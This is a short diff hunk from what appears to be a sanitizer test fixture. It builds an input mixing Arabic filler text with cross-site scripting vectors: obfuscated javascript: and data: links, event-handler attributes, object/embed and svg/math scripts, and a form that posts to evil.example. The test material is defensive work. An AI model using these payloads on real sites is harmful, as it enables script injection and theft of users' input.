@@ -28,7 +28,7 @@ BODY = "\n\n".join([
     "فقرة أولى.",
     f"[رابط](javascript:{PWN}) و[آخر](JaVaScRiPt:{PWN}) و[ثالث](data:text/html,<script>{PWN}</script>)",
     f'<a href="jav&#x09;ascript:{PWN}">مخفي</a> <img src="https://evil.example/x.png" onerror="{PWN}">',
-    f"<form action=\"https://evil.example/\"><input name=q></form><style>body{{display:none}}</style>",
+    "<form action=\"https://evil.example/\"><input name=q></form><style>body{display:none}</style>",
     f"<div onmouseover=\"{PWN}\" style=\"position:fixed\">غطاء</div>",
     f"<object data=\"javascript:{PWN}\"></object><embed src=\"javascript:{PWN}\">",
     f"<svg><script>{PWN}</script></svg><math><a xlink:href=\"javascript:{PWN}\">x</a></math>",
